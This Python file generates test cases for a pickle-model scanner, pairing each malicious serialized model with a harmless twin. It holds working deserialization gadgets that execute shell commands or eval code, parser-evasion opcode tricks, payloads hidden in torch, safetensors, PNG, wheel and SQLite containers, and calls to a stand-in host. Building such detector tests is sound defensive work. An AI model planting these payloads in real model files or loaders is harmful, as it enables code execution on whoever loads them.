"""Pickles: functions, chains, opcodes, containers."""
import base64, bz2, collections, datetime, decimal, fractions, functools, gzip, io, lzma, operator, pathlib, pickle, struct, types, uuid, zipfile, zlib
import numpy
from base import *

CODE = f"__import__('os').system({SAY!r})"
BODY = f"import os\nos.system({SAY!r})\n"
SPLIT = f"\nimport os;os.system({SAY!r})\n"
GOODS = [datetime.date(2026, 7, 1), decimal.Decimal("0.05"), fractions.Fraction(3, 7), collections.Counter({"pos": 12, "neg": 9}), uuid.UUID(int=77), pathlib.PurePosixPath("data/train"), collections.OrderedDict(pos=0, neg=1),
         numpy.dtype("<f4"), numpy.float64(.25), numpy.arange(6, dtype="<i8"), complex(1, 2), slice(0, 10), frozenset({"a"}), datetime.timedelta(days=3), range(10), collections.deque([1, 2], 8)]


class Fn(Call):
    """A call whose result is called again."""
    def __call__(self): pass


def meta(x, k=0): return {"version": f"1.{k}.0", "labels": ["negative", "neutral", "positive"], "threshold": .25 + k / 100, "extra": x}


def npy(value) -> bytes:
    out, array = io.BytesIO(), numpy.empty(3, object)
    array[:] = ["a", value, 2]
    with fakes(): numpy.save(out, array, allow_pickle=True)
    return out.getvalue()


def framed(x, k=0) -> bytes:
    import pandas
    frame = pandas.DataFrame({"text": ["one", "two"], "score": [.1, .9]})
    frame["text"] = frame["text"].astype(object)
    frame.attrs["source"] = x
    return dumps(frame, 5)


def old_torch(x, k=0):
    tensors, data = weights(k)
    def tup(i, n): return Call("torch._utils:_rebuild_tensor_v2", Stored(i, n), 0, (n,), (1,), False, collections.OrderedDict())
    return legacy({"epoch": k, "w": tup(0, 6), "extra": x}, {"0": floats(6, k)})


class Stored(Storage): pass


class Old(pickle.Pickler):
    def persistent_id(self, o): return ("storage", G("torch:FloatStorage"), str(o.key), "cpu", o.count, None) if isinstance(o, Storage) else None


def legacy(value, data, keys=None, info=None) -> bytes:
    parts = [dumps(v, 2, Old) for v in (0x1950A86A20F9469CFC6C, 1001, info or {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, value, keys or sorted(data))]
    return b"".join(parts) + b"".join(struct.pack("<q", len(v) // 4) + v for _, v in sorted(data.items()))


BOXES = {
    "raw": lambda x, k: {"model.pkl": dumps(meta(x, k))},
    "p2": lambda x, k: {"vectorizer.pickle": dumps(meta(x, k), 2)},
    "torch": lambda x, k: {"pytorch_model.bin": checkpoint(x, k)},
    "joblib": lambda x, k: {"model.joblib": joblib_dump({"model": estimator(k), "meta": x})},
    "joblibz": lambda x, k: {"model.joblib": joblib_dump({"model": estimator(k), "meta": x}, ("zlib", 3))},
    "npy": lambda x, k: {"features.npy": npy(x)},
    "legacy": lambda x, k: {"weights.pt": old_torch(x, k)},
    "pandas": lambda x, k: {"frame.pkl": framed(x, k)},
}
NAMES = list(BOXES)
count = 0


def gadget(name, expected, reason, evil, good=None, box=None):
    global count
    count += 1
    box = box or NAMES[count % len(NAMES)]
    add(name, expected, reason, BOXES[box](evil, count % 9), BOXES[box](GOODS[count % len(GOODS)] if good is None else good, count % 9))


# Functions of the standard library that are not on everybody's list
g = "pickle-stdlib"
hint = Call("types:SimpleNamespace", state={"__annotations__": {"x": CODE}})
gadget(f"{g}/typing-get-type-hints/namespace", "block", "typing.get_type_hints evaluates text annotations of any object", Call("typing:get_type_hints", hint), Call("types:SimpleNamespace", state={"lr": .1}))
gadget(f"{g}/typing-get-type-hints/partial", "block", "get_type_hints on a functools.partial whose state brings __annotations__", Call("typing:get_type_hints", Call("functools:partial", G("builtins:len"), state=(G("builtins:len"), (), {}, {"__annotations__": {"return": CODE}}))), functools.partial(numpy.sum, axis=0), "torch")
gadget(f"{g}/make-proxy-type/raw", "block", "multiprocessing.managers.MakeProxyType formats method names into source that it executes", Call("multiprocessing.managers:MakeProxyType", "P", (f"f(self): pass{SPLIT}def g",)))
gadget(f"{g}/dataclass-create-fn/raw", "block", "dataclasses._create_fn evaluates a default value in generated source", Call("dataclasses:_create_fn", "f", [f"x={CODE}"], ["pass"]))
gadget(f"{g}/logging-fileconfig/stringio", "block", "logging.config.fileConfig evaluates the arguments of a handler; the file is a StringIO", Call("logging.config:fileConfig", Call("io:StringIO", f"[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=({CODE.replace('%', '%%')},)\n")), "[loggers]\nkeys=root\n[handlers]\nkeys=h\n")
gadget(f"{g}/bootsubprocess/raw", "block", "_bootsubprocess.check_output runs a command", Call("_bootsubprocess:check_output", SAY.split()), ["echo", "labels"])
gadget(f"{g}/codecs-register/raw", "review", "codecs.register installs a function that is called for later encodings", Call("codecs:register", G("json:loads")), "utf-8")
gadget(f"{g}/weakref-finalize/raw", "block", "weakref.finalize calls its function when the object dies", Call("weakref:finalize", Call("collections:UserList"), G("runpy:run_path"), GONE), collections.UserList([1, 2]))
gadget(f"{g}/atexit-later/raw", "block", "atexit.register leaves a call for the end of the process", Call("atexit:register", G("shutil:rmtree"), GONE), {"on_exit": "save"})
gadget(f"{g}/gc-callback-list/raw", "review", "logging.disable silences all logs of the process that loads the model", Call("logging:disable", 60), 60)
gadget(f"{g}/process-state/recursion", "review", "sys.setrecursionlimit lifts the guard of the process that loads", Call("sys:setrecursionlimit", 10**6), 10**6)
gadget(f"{g}/host-identity/user", "review", "getpass.getuser reads who loads the model", Call("getpass:getuser"), "trainer")
gadget(f"{g}/faulthandler-crash/raw", "block", "faulthandler._sigsegv crashes the reader", Call("faulthandler:_sigsegv"))
gadget(f"{g}/ctypes-memory/raw", "block", "ctypes.string_at reads memory at an address", Call("ctypes:string_at", 8, 64), b"\0" * 8)
gadget(f"{g}/pipes-template/chain", "block", "pipes.Template: a pipeline of the shell is filled by state and opened", Call(operator.methodcaller("copy", "/dev/null", "/dev/null"), Call("pipes:Template", state={"steps": [(SAY, "--")], "debugging": 0})), Call("types:SimpleNamespace", state={"steps": [("scale", "--")], "debugging": 0}))
gadget(f"{g}/multiprocessing-process/start", "block", "a multiprocessing.Process is made and started: runpy in a child", Call(operator.methodcaller("start"), Call("multiprocessing.context:Process", None, G("runpy:run_module"), "p", ("jingwei_plugin",))), operator.methodcaller("lower"), "raw")

# Reading, writing, deleting, connecting
g = "pickle-files-network"
for technique, fn, args, why in [
        ("fileinput-inplace", "fileinput:FileInput", ([GONE], True), "fileinput.FileInput with inplace rewrites a file"), ("linecache-read", "linecache:getlines", (GONE,), "linecache.getlines reads a file into the model"),
        ("py-compile", "py_compile:compile", (GONE + ".py", GONE + ".pyc"), "py_compile.compile writes byte code"),
        ("numpy-memmap", "numpy:memmap", (GONE + ".bin", "uint8", "w+", 0, 4096), "numpy.memmap in mode w+ creates a file"), ("numpy-genfromtxt", "numpy:genfromtxt", (HOST + "/data.csv",), "numpy.genfromtxt fetches an address"),
        ("syslog-udp", "logging.handlers:SysLogHandler", (("example.invalid", 514),), "SysLogHandler opens a socket to a host"), ("mp-client", "multiprocessing.connection:Client", (("example.invalid", 7001),), "multiprocessing Client connects and unpickles what it is sent"),
        ("joblib-delete-folder", "joblib.disk:delete_folder", (GONE,), "joblib.disk.delete_folder deletes a folder"),
        ("pandas-excel", "pandas.io.excel._base:ExcelFile", (HOST + "/book.xlsx",), "pandas.ExcelFile fetches an address")]:
    gadget(f"{g}/{technique}/{NAMES[(count + 1) % len(NAMES)]}", "block", why, Call(fn, *args))
gadget(f"{g}/xmlrpc-proxy/call", "block", "xmlrpc.client.ServerProxy: attribute and call post to a host", Call(operator.methodcaller("__call__", "model"), Call(operator.attrgetter("register"), Call("xmlrpc.client:ServerProxy", HOST))), operator.attrgetter("real"), "raw")
gadget(f"{g}/tempfile-keep/raw", "review", "tempfile.mkdtemp leaves a folder behind at each load", Call("tempfile:mkdtemp"), "/tmp")

# Functions of packages; where they are not installed here the stand-in has their real name
g = "pickle-packages"
for technique, fn, args, why in [
        ("sympy-simplify", "sympy.simplify.simplify:simplify", (CODE,), "sympy.simplify turns its text into an expression with eval"),
        ("sympy-get-class", "sympy.utilities.source:get_class", ("jingwei_plugin.Run",), "imports a module and fetches a name"), ("numpy-measure", "numpy.testing._private.utils:measure", (BODY,), "numpy.testing.measure executes its text"),
        ("numpy-param-eval", "numpy.f2py.crackfortran:param_eval", (CODE, {}, {}), "numpy.f2py param_eval evaluates its text"), ("scipy-nonlin-wrapper", "scipy.optimize._nonlin:_nonlin_wrapper", (f"f(x): pass{SPLIT}def g", G("scipy.optimize._nonlin:BroydenFirst")), "formats a name into source that it executes"),
        ("sklearn-run-script", "sklearn.utils._testing:assert_run_python_script_without_output", (BODY,), "runs its text as a script"), ("joblib-subprocess", "joblib.testing:check_subprocess_call", (SAY.split(),), "runs a command"),
        ("loky-fork-exec", "joblib.externals.loky.backend.fork_exec:fork_exec", (SAY.split(), []), "forks and runs a command"), ("tornado-exec-in", "tornado.util:exec_in", (BODY, {}), "executes its text"),
        ("hydra-instantiate", "hydra._internal.instantiate._instantiate2:instantiate", ({"_target_": "os.system", "command": SAY},), "calls what _target_ names"),
        ("werkzeug-import", "werkzeug.utils:import_string", ("jingwei_plugin:run",), "imports a module by name"),
        ("keras-deserialize", "keras.src.saving.serialization_lib:deserialize_keras_object", ({"module": "jingwei_plugin", "class_name": "Run", "config": {}, "registered_name": None},), "imports what a configuration names"),
        ("dill-temp-source", "dill.temp:loadIO_source", (Call("io:BytesIO", (BODY + "#NAME: os\n").encode()),), "executes source"),
        ("torch-inline", "torch.utils.cpp_extension:load_inline", ("jingwei", "int f() { return 0; }"), "compiles and loads native code"),
        ("spacy-import-file", "spacy.util:import_file", ("jingwei", GONE + ".py"), "executes a file"),
        ("tensorflow-write", "tensorflow.python.ops.io_ops:write_file", (GONE, "jingwei"), "writes a file")]:
    gadget(f"{g}/{technique}/{NAMES[(count + 1) % len(NAMES)]}", "block", f"{fn.replace(':', '.')}: {why}", Call(fn, *args))
gadget(f"{g}/tornado-template/chain", "block", "tornado.template.Template compiles; generate runs it", Call(operator.methodcaller("generate"), Call("tornado.template:Template", "{% import os %}{{ os.system('" + SAY + "') }}")), operator.methodcaller("title"), "raw")
gadget(f"{g}/traitlets-loader/chain", "block", "PyFileConfigLoader executes a configuration file", Call(operator.methodcaller("load_config"), Call("traitlets.config.loader:PyFileConfigLoader", "jingwei_config.py", "/nonexistent")), operator.methodcaller("items"), "torch")
gadget(f"{g}/function-transformer/late", "block", "a FunctionTransformer in a pipeline calls subprocess.getoutput when used", G("sklearn.preprocessing._function_transformer:FunctionTransformer")(func=G("subprocess:getoutput"), validate=False), G("sklearn.preprocessing._function_transformer:FunctionTransformer")(func=numpy.log1p), "joblib")
gadget(f"{g}/vectorizer-tokenizer/late", "block", "a TfidfVectorizer whose tokenizer is os.popen: run at the first transform", G("sklearn.feature_extraction.text:TfidfVectorizer")(tokenizer=G("os:popen"), token_pattern=None), G("sklearn.feature_extraction.text:TfidfVectorizer")(tokenizer=str.split, token_pattern=None), "joblib")
gadget(f"{g}/unknown-class/model", "review", "an object of a class nobody knows: its code decides", obj("acme_ranker.core:Ranker", alpha=.1, layers=[4, 2]), collections.OrderedDict(alpha=.1, layers=[4, 2]), "raw")
gadget(f"{g}/unknown-class/function", "review", "a call of a function of an unknown package", Call("acme_ranker.io:_restore", b"\1\2", "v2"), (b"\1\2", "v2"), "torch")

# Chains of harmless-looking calls
g = "pickle-chains"
gadget(f"{g}/globals-walk/json", "block", "json.dumps → __globals__ → __builtins__ → eval, by attrgetter and itemgetter only", Call(Fn(operator.itemgetter("eval"), Call(operator.itemgetter("__builtins__"), Call(operator.attrgetter("__globals__"), G("json:dumps")))), CODE), operator.itemgetter("a"), "raw")
gadget(f"{g}/globals-walk/sklearn", "block", "an estimator's method leads to __globals__ and to a module's own import of os", Call(Fn(operator.attrgetter("system"), Call(operator.itemgetter("os"), Call(operator.attrgetter("read.__globals__"), Call("joblib.numpy_pickle:NumpyArrayWrapper", G("numpy:ndarray"), (1,), "C", G("numpy:dtype")("f4"))))), SAY), operator.attrgetter("real"), "raw")
gadget(f"{g}/defaultdict-factory/missing", "block", "a defaultdict whose factory is a partial of exec: run by the first missing key, looked up by itemgetter", Call(operator.itemgetter("x"), Call("collections:defaultdict", functools.partial(exec, BODY))), collections.defaultdict(list, x=[1]), "raw")
gadget(f"{g}/accumulate/raw", "block", "itertools.accumulate applies getattr along a path", Call(Fn(operator.itemgetter(1), Call("builtins:tuple", Call("itertools:accumulate", [Call("importlib:import_module", "os"), "system"], getattr))), SAY), (1, 2), "raw")
gadget(f"{g}/bisect-key/raw", "block", "bisect.bisect_left with key=eval looks at the item", Call(Fn("functools:partial", G("bisect:bisect_left"), state=(G("bisect:bisect_left"), (), {"key": eval}, {})), [CODE], 0), functools.partial(numpy.searchsorted, side="left"), "raw")
gadget(f"{g}/json-hook/raw", "block", "json.loads through a partial: parse_constant is eval-like", Call(Fn("functools:partial", G("json:loads"), state=(G("json:loads"), (), {"object_hook": functools.partial(exec, BODY)}, {})), "{}"), {"a": 1}, "torch")
gadget(f"{g}/numpy-vectorize/raw", "block", "numpy.vectorize of eval, applied to an array of text", Call(operator.methodcaller("__call__", CODE), Call("numpy:vectorize", eval)), numpy.array([1.5]), "joblib")
gadget(f"{g}/class-call-method/type", "block", "type() makes a dict class whose __copy__ is exec, and copy.copy calls it", Call("copy:copy", Call(Fn("builtins:type", "C", (dict,), {"__copy__": functools.partial(exec, BODY)}))), {"C": 1}, "raw")
gadget(f"{g}/class-call-method/setstate", "block", "BUILD calls the __setstate__ of a class made by type(): exec", Call(Fn("builtins:type", "S", (), {"__setstate__": exec, "__reduce__": None}), state=BODY), {"S": 1}, "torch")
gadget(f"{g}/hash-callback/raw", "block", "a dict key whose __hash__ is a partial: run by SETITEM", Call("builtins:hash", Call(Fn("builtins:type", "K", (), {"__hash__": functools.partial(exec, BODY)}))), ("K", 1), "raw")
gadget(f"{g}/string-decode/rot13", "block", "the source is rot13 text, decoded by codecs.decode on the way to exec", Call("builtins:exec", Call("codecs:decode", __import__("codecs").encode(BODY, "rot13"), "rot13")), "rknzcyr", "p2")
gadget(f"{g}/string-decode/translate", "block", "names are put together by str.translate and resolved by pkgutil", Call(Fn("pkgutil:resolve_name", Call(operator.methodcaller("translate", {49: "os:", 50: "system"}), "12")), SAY), "12", "joblib")
gadget(f"{g}/nested-pickle/unpickler", "block", "pickle._Unpickler over a BytesIO, load called by methodcaller", Call(operator.methodcaller("load"), Call("pickle:_Unpickler", Call("io:BytesIO", dumps(Call("os:system", SAY))))), Call("io:BytesIO", b"\0\1\2"), "torch")

# Opcodes by hand
g = "pickle-opcodes"
T = b"\x94"
SYS, HONEST = ("posix", "system"), ("builtins", "complex")


def call(mod, name, arg): return op(mod, name, b"\x93", arg, b"\x85R")


def stream(*parts): return b"\x80\x04" + op(*parts) + b"."


def both(name, reason, make, file="model.pkl", expected="block"):
    add(name, expected, reason, {file: make(*SYS, SAY)}, {file: make(*HONEST, "1+2j")})


both(f"{g}/long-int-names/long4", "the name comes from a BINUNICODE8 with a 64-bit length", lambda m, n, a: b"\x80\x04" + b"\x8d" + struct.pack("<Q", len(m)) + m.encode() + b"\x8d" + struct.pack("<Q", len(n)) + n.encode() + b"\x93" + op(a) + b"\x85R.")
both(f"{g}/memo-huge-index/put", "the callable is fetched from memo slot 2²⁰+7", lambda m, n, a: stream(m, n, b"\x93r" + struct.pack("<I", 2**20 + 7) + b"0]j" + struct.pack("<I", 2**20 + 7), a, b"\x85R") )
both(f"{g}/text-opcodes/unicode-escape", "protocol 0: the names and the argument are written with \\u escapes", lambda m, n, a: b"c" + m.encode() + b"\n" + n.encode() + b"\n(V" + "".join(f"\\u{ord(c):04x}" for c in a).encode() + b"\ntR.")
both(f"{g}/mark-juggling/popmark", "decoy values are pushed and removed by POP_MARK around the call", lambda m, n, a: stream(b"((", "collections", "OrderedDict", b"\x93)R1", m, n, b"\x93(", "decoy", b"1", a, b"\x85R"))
both(f"{g}/dup-callable/dup", "the callable is doubled with DUP; only the second one is used", lambda m, n, a: stream(m, n, b"\x932", a, b"\x85R\x86"))
both(f"{g}/late-in-list/appends", "the call lies behind 60,000 harmless items", lambda m, n, a: b"\x80\x04](" + b"K\x01" * 60000 + call(m, n, a) + b"e.")
both(f"{g}/frozenset-item/frozenset", "the call is an item of a FROZENSET", lambda m, n, a: stream(b"(", call(m, n, a), b"K\x02\x91"))
both(f"{g}/two-protos/repeat", "PROTO again in the middle of the stream, with a lower number", lambda m, n, a: b"\x80\x05]\x80\x02" + call(m, n, a) + b"\x80\x04a.")
both(f"{g}/frames-nested/tiny", "each opcode lies in a FRAME of its own", lambda m, n, a: b"\x80\x04" + b"".join(b"\x95" + struct.pack("<Q", len(p)) + p for p in (op(m), op(n), b"\x93", op(a), b"\x85", b"R", b".")))
both(f"{g}/build-slots/class-attr", "BUILD with a slots state sets __code__ like attributes on a function of the library", lambda m, n, a: stream("json", "loads", b"\x93N}", "__defaults__" if m == "posix" else "note", b"N\x85s\x86b") if m == "posix" else stream("types", "SimpleNamespace", b"\x93)RN}", "note", b"N\x85s\x86b"), expected="block")
both(f"{g}/module-attribute/deep", "STACK_GLOBAL with a dotted path through an innocent module: logging → os", lambda m, n, a: stream("logging", "os.system" if m == "posix" else "Formatter", b"\x93", a if m == "posix" else "%(message)s", b"\x85R"))
both(f"{g}/no-stop/missing", "the stream runs and never reaches STOP", lambda m, n, a: b"\x80\x04" + call(m, n, a) + (b"" if m == "posix" else b"."))
both(f"{g}/error-after/invalid-op", "the call is made, then an unknown opcode stops the parser", lambda m, n, a: b"\x80\x04" + call(m, n, a) + (b"\xff\xfe." if m == "posix" else b"."))

# Containers of pickles
def plain_npy():
    out = io.BytesIO()
    numpy.save(out, numpy.arange(8, dtype="<f4"))
    return out.getvalue()


def object_npy(p):
    head = "{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    head += " " * (-(len(head) + 11) % 64) + "\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(head)) + head.encode() + p


def sqlite(steps) -> bytes:
    import sqlite3, tempfile
    with tempfile.TemporaryDirectory() as folder:
        con = sqlite3.connect(f"{folder}/x.db")
        for sql, args in steps: con.execute(sql, args)
        con.commit(); con.close()
        return pathlib.Path(f"{folder}/x.db").read_bytes()


PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
g = "pickle-containers"
EVIL, GOOD = dumps(meta(Call("os:system", SAY))), dumps(meta(GOODS[0]))
def each(name, reason, make, expected="block"): pair(name, expected, reason, make, EVIL, GOOD)
each(f"{g}/base64-in-json/raw", "a JSON configuration carries a base64 pickle under sklearn_params, read by its loader beside it", lambda p: {"pipeline.json": js({"format": "pickle+base64", "estimator": base64.b64encode(p).decode()}), "load.py": "import base64, json, pickle\nspec = json.load(open('pipeline.json'))\nmodel = pickle.loads(base64.b64decode(spec['estimator']))\n"} if p is EVIL else {"pipeline.json": js({"format": "linear", "coef": [.1, .2]}), "load.py": "import json\nspec = json.load(open('pipeline.json'))\nmodel = spec['coef']\n"})
each(f"{g}/torch-second-pkl/extra", "a torch zip with a harmless data.pkl and the call in a second pickle, .data/extra.pkl", lambda p: {"model.pt": torch_zip({"state_dict": weights()[0]}, weights()[1], more=[("archive/.data/extra.pkl", p)])})
each(f"{g}/safetensors-tail/tail", "a pickle behind the tensors of a safetensors file", lambda p: {"model.safetensors": safetensors() + (p if p is EVIL else b"")})
each(f"{g}/gzip-members/second", "two gzip members in one file: the stream they make together is a pickle that calls", lambda p: {"model.pkl.gz": gzip.compress(p[:20], mtime=0) + gzip.compress(p[20:], mtime=0)})
each(f"{g}/lzma-alone/legacy", "LZMA-alone stream (no magic of xz)", lambda p: {"model.pkl.lzma": lzma.compress(p, lzma.FORMAT_ALONE)})
each(f"{g}/zlib-raw/deflate", "zlib stream under a name without extension", lambda p: {"tokenizer_state": zlib.compress(p)})
each(f"{g}/pytorch-tar/oldest", "torch's oldest tar format: the pickle member calls", lambda p: {"net.pth": tarred([("sys_info", dumps({"protocol_version": 1000, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)), ("pickle", p), ("storages", dumps(0, 2)), ("tensors", dumps(0, 2))])})
each(f"{g}/sparse-offset/padding", "64 kB of zeros stand before the pickle; the loader beside it seeks", lambda p: {"model.dat": b"\0" * 65536 + (p if p is EVIL else b""), "load.py": "import pickle\nwith open('model.dat', 'rb') as f:\n    f.seek(65536)\n    model = pickle.load(f)\n" if p is EVIL else "import numpy\nmodel = numpy.fromfile('model.dat', '<f4')\n"})
each(f"{g}/shelve-db/dumb", "a shelve of dbm.dumb: the values in the .dat file are pickles", lambda p: {"cache.dat": p + b"\0" * (-len(p) % 512), "cache.dir": f"'model', (0, {len(p)})\n"})
each(f"{g}/sqlite-blob/cache", "a joblib-like cache in SQLite: the value is a pickle", lambda p: {"cache.sqlite": sqlite([("CREATE TABLE entries (key TEXT PRIMARY KEY, value BLOB)", ()), ("INSERT INTO entries VALUES ('model', ?)", (p,))])})
each(f"{g}/wheel-member/package-data", "a wheel brings a pickle as package data", lambda p: {"ranker-1.0-py3-none-any.whl": zipped([("ranker/__init__.py", b"VERSION = '1.0'\n"), ("ranker/data/model.pkl", p), ("ranker-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: ranker\nVersion: 1.0\n"), ("ranker-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nGenerator: bdist\nRoot-Is-Purelib: true\nTag: py3-none-any\n"), ("ranker-1.0.dist-info/RECORD", b"")])})
each(f"{g}/wrong-name/json", "a pickle named config.json", lambda p: {"config.json": p if p is EVIL else js({"hidden_size": 64})})
each(f"{g}/wrong-name/png", "a PNG signature, then a pickle found by the loader's seek", lambda p: {"preview.png": PNG + (p if p is EVIL else b"")})
dillfn = {}
exec(compile(f"def evil(x):\n    import os\n    return os.popen({SAY!r}).read()\ndef good(x):\n    return x * 2 + 1\n", "model.py", "exec"), dillfn)
def by_value(lib, f):
    import importlib
    f.__module__ = "__main__"
    module = importlib.import_module(lib)
    return {f"{lib}.pkl": module.dumps({"labels": ["a", "b"], "post": f}) if lib == "cloudpickle" else module.dumps({"labels": ["a", "b"], "post": f}, recurse=True)}
for lib in ("cloudpickle",): add(f"{g}/function-by-value/{lib}", "block", f"{lib}: a function by value whose body runs a command when used", by_value(lib, dillfn["evil"]), {f"{lib}.pkl": __import__(lib).dumps({"labels": ["a", "b"], "post": numpy.log1p})})
